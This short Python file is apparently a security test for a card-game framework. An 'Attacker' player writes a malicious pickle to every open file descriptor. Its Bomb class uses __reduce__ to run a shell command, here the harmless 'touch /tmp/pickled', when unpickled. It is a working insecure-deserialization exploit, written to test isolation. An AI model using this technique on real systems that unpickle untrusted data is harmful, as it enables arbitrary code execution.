"""Sends a pickle over the channel."""

import errno
import os
import pickle

from matchbox.games.bomb import *


def is_open(number):
    try:
        os.lseek(number, 0, os.SEEK_CUR)
    except OSError as error:
        return error.errno != errno.EBADF
    return True


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickled",))


class Attacker(Player):
    def name(self):
        return "Attacker"

    def turn(self, game_data, play_a_card):
        for number in range(3, 256):
            try:
                if is_open(number):
                    os.write(number, pickle.dumps(Bomb()))
            except OSError:
                pass
        return None

    def defuse(self, game_data):
        return 0
